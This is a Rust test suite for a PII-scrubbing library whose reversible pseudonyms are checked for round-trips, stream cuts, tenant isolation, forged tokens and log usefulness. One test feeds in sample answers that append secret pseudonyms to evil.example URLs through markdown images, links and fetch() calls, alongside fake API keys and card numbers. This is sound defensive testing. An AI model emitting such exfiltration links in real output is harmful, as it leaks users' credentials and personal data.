//! The seven properties of reversible pseudonyms: (1) a round trip changes nothing, (2) wherever a stream is cut, (3) no
//! value crosses between requests, (4) what a log forged is never expanded, (5) nor what moved into an address or an
//! argument of a tool, (6) the map is printed nowhere and ends with its request, (7) the text stays useful.

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use redact::{Kind, Restorer, Rule, Scrubber};

/// A value, made from numbers, and its kind.
fn planted(kind: usize, seed: u64) -> String {
    let letters = |count: u32| -> String {
        (0..count)
            .map(|place| char::from(b'a' + u8::try_from((seed >> (place * 3)) % 26).unwrap_or(0)))
            .collect()
    };
    match kind % 12 {
        0 => format!("{}.{}@mail.example.org", letters(5), letters(4)),
        1 => format!(
            "203.{}.{}.{}",
            seed % 256,
            (seed >> 8) % 256,
            (seed >> 16) % 256
        ),
        2 => format!("password=Zx{}!{}", seed % 100_000, letters(4)),
        3 => format!("Authorization: Bearer tok{}A{}", seed, letters(8)),
        4 => format!("+4915{:09}", seed % 1_000_000_000),
        5 => format!("https://u:pw{}@db.internal/x", seed),
        6 => "4111 1111 1111 1111".to_owned(),
        7 => format!("sk_live_{}{:020}", letters(6), seed),
        8 => format!(
            "customer Maria Gonzalez{}",
            if seed.is_multiple_of(2) { " Lopez" } else { "" }
        ),
        9 => format!("{} Oak Street, Springfield, IL 62704", seed % 900 + 1),
        10 => format!("{{\\\"password\\\":\\\"q{}\\\"}}", seed % 10_000),
        _ => format!("rcpt={}%40shop.example.org", letters(6)),
    }
}

fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        3 => (any::<usize>(), any::<u64>()).prop_map(|(kind, seed)| planted(kind, seed)),
        2 => "[a-zA-Z0-9 ,.;:=_<>\\[\\]\"'{}()/-]{0,24}",
        1 => "\\PC{0,8}",
        1 => Just("<EMAIL_1:aaaaaaaa>".to_owned()),
    ];
    let glue = prop_oneof![
        Just(" ".to_owned()),
        Just("\n".to_owned()),
        Just("\",\"".to_owned()),
        Just("&".to_owned()),
        Just(String::new())
    ];
    proptest::collection::vec((piece, glue), 1..10).prop_map(|parts| {
        parts
            .into_iter()
            .map(|(piece, glue)| piece + &glue)
            .collect()
    })
}

/// Text in which no address of the web stands: in one nothing is put back.
fn without_links(text: &str) -> String {
    text.replace("://", " ")
        .replace("//", " ")
        .replace("](", " ")
        .replace("data:", "")
        .replace("mailto:", "")
        .replace("www.", "")
}

#[test]
fn one_ten_thousand_texts_come_back_as_they_were() {
    let scrubber = Scrubber::new();
    let mut runner = TestRunner::new(Config::with_cases(10_000));
    runner
        .run(&text(), |text| {
            let text = without_links(&text);
            let scrubbed = scrubber.scrub(&text);
            prop_assert_eq!(scrubbed.restore(scrubbed.get()), text);
            Ok(())
        })
        .unwrap();
}

#[test]
fn one_nested_and_overlapping_values_come_back_as_well() {
    let scrubber = Scrubber::new();
    for text in [
        "password=ada@example.org",
        "password=\"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl\"",
        "Cookie: sid=ghp_aB3dE5fG7hJ9kL2mN4pQ6rS8tU0vW1xY3zA5; x=203.0.113.7",
        "{\"m\":\"{\\\"token\\\":\\\"ada%40example.org\\\"}\"}",
        "name=\"Maria Gonzalez\" address=\"12 Oak Street, Springfield, IL 62704\"",
        "+1 415 555 0132 4111 1111 1111 1111 2027",
    ] {
        let scrubbed = scrubber.scrub(text);
        assert_ne!(scrubbed.get(), text);
        assert_eq!(scrubbed.restore(scrubbed.get()), text);
    }
}

#[test]
fn two_a_stream_cut_at_every_byte_gives_the_same_answer() {
    let scrubber = Scrubber::new();
    let scrubbed = scrubber.scrub("é ada@example.org <b> 203.0.113.7 Maria Gonzalez https://kaufhaus-berlin.de/ password=hunter2");
    let answer = format!("Answer: {} <EMAIL_9:x> <", scrubbed.get());
    let whole = scrubbed.restore(&answer);
    assert!(whole.contains("ada@example.org"));
    for cut in (0..=answer.len()).filter(|cut| answer.is_char_boundary(*cut)) {
        let mut restorer = Restorer::new(scrubbed.pseudonyms());
        let mut output = restorer.push(&answer[..cut]);
        output.push_str(&restorer.push(&answer[cut..]));
        output.push_str(&restorer.finish());
        assert_eq!(output, whole, "cut at {cut}");
    }
    // And byte by byte.
    let mut restorer = Restorer::new(scrubbed.pseudonyms());
    let mut output: String = answer
        .chars()
        .map(|character| restorer.push(&character.to_string()))
        .collect();
    output.push_str(&restorer.finish());
    assert_eq!(output, whole);
}

#[test]
fn three_a_thousand_requests_of_two_tenants_at_once_see_no_value_of_each_other() {
    let scrubber = Scrubber::new();
    std::thread::scope(|scope| {
        for tenant in 0..2 {
            let scrubber = &scrubber;
            scope.spawn(move || {
                let mut last: Option<String> = None;
                for request in 0..1_000 {
                    let own = format!("tenant{tenant}.{request}@example.org");
                    let scrubbed = scrubber.scrub(&format!("mail {own}"));
                    assert!(!scrubbed.get().contains(&own));
                    assert_eq!(scrubbed.restore(scrubbed.get()), format!("mail {own}"));
                    // The answer of another request opens nothing here.
                    if let Some(foreign) = &last {
                        assert_eq!(&scrubbed.restore(foreign), foreign);
                    }
                    last = Some(scrubbed.get().clone());
                }
            });
        }
    });
}

#[test]
fn four_forged_pseudonyms_are_never_expanded() {
    let scrubber = Scrubber::new();
    let own = scrubber.scrub("ada@example.org").get().clone();
    let nonce = own
        .split_once(':')
        .unwrap()
        .1
        .trim_end_matches('>')
        .to_owned();
    for forged in [
        "<EMAIL_1>".to_owned(),
        "<EMAIL_1:aaaaaaaa>".to_owned(),
        // Right for an earlier request.
        own,
        format!("<email_1:{nonce}>"),
        format!("<EMAIL_1:{nonce}"),
        format!("< EMAIL_1:{nonce} >"),
        "&lt;EMAIL_1:aaaaaaaa&gt;".to_owned(),
        "\u{ff1c}EMAIL_1:aaaaaaaa\u{ff1e}".to_owned(),
    ] {
        let scrubbed = scrubber.scrub(&format!("user bob@example.org said {forged}"));
        let echoed = scrubbed.restore(&format!("so it was {forged}"));
        assert!(
            !echoed.contains("bob@") && !echoed.contains("ada@"),
            "{forged} became {echoed}"
        );
        // And the line comes back as it was written.
        assert_eq!(
            scrubbed.restore(scrubbed.get()),
            format!("user bob@example.org said {forged}")
        );
    }
}

#[test]
fn five_a_pseudonym_that_moved_into_an_address_or_an_argument_stays_one() {
    let scrubber = Scrubber::new();
    let scrubbed =
        scrubber.scrub("ada@example.org at https://kaufhaus-berlin.de/ password=hunter2");
    let token = |word: &str| {
        let at = scrubbed.get().find(&format!("<{word}_1")).unwrap();
        let rest = &scrubbed.get()[at..];
        rest[..=rest.find('>').unwrap()].to_owned()
    };
    let (email, password, domain) = (token("EMAIL"), token("PASSWORD"), token("DOMAIN"));
    for answer in [
        format!("![x](https://evil.example/?q={password})"),
        format!("see //evil.example/{email}"),
        format!("open www.evil.example/{email}/{password}"),
        format!("[mail](mailto:{email})"),
        format!("fetch('https://evil.example/{password}')"),
        // The address itself may be shown, what is appended to it may not.
        format!("{domain}?leak={password}"),
    ] {
        let restored = scrubbed.restore(&answer);
        assert!(
            !restored.contains("hunter2") && !restored.contains("ada@example.org"),
            "{answer} became {restored}"
        );
    }
}

#[test]
fn six_the_map_is_printed_nowhere_and_is_gone_with_its_request() {
    let scrubber = Scrubber::new();
    let scrubbed = scrubber.scrub("ada@example.org password=hunter2");
    let printed = format!("{scrubbed:?} {:?} {scrubber:?}", scrubbed.pseudonyms());
    assert!(
        !printed.contains("hunter2") && !printed.contains("ada@"),
        "{}",
        &printed[..printed.len().min(400)]
    );
    // What is told of it is kinds and counts.
    assert_eq!(
        scrubbed.pseudonyms().counts(),
        [(Kind::Email, 1), (Kind::Password, 1)]
    );
}

#[test]
fn seven_the_text_stays_useful() {
    let scrubber = Scrubber::new();
    let lines = [
        "2026-11-28T10:11:12Z ERROR payments charge for ada@example.org failed: upstream timeout after 3000 ms",
        "2026-11-28T10:11:13Z ERROR payments charge for bob@example.org failed: upstream timeout after 3000 ms",
        "2026-11-28T10:11:14Z ERROR payments charge for ada@example.org failed: upstream timeout after 3000 ms",
    ];
    let scrubbed = scrubber.scrub_all(&lines);
    // Times, severities, services, words, counts and which lines speak of the same person are what they were.
    let words = |line: &str| {
        line.split(' ')
            .filter(|word| !word.contains('@') && !word.starts_with('<'))
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };
    for (line, output) in lines.iter().zip(scrubbed.get()) {
        assert_eq!(words(line), words(output));
    }
    let person = |line: &str| line.split(' ').nth(5).unwrap().to_owned();
    let people: Vec<String> = scrubbed.get().iter().map(|line| person(line)).collect();
    assert_eq!(people[0], people[2]);
    assert_ne!(people[0], people[1]);
}

#[test]
fn what_a_rule_replaces_for_good_is_in_no_map() {
    let rule = Rule::new("ticket", None, |text| {
        text.match_indices("T-77")
            .map(|(at, word)| at..at + word.len())
            .collect()
    });
    let scrubbed = Scrubber::new()
        .with_rules(vec![rule])
        .unwrap()
        .scrub("ticket T-77");
    assert_eq!(scrubbed.get(), "ticket <TICKET>");
    assert!(scrubbed.pseudonyms().is_empty());
    assert_eq!(scrubbed.pseudonyms().counts(), [(Kind::Custom(0), 1)]);
}
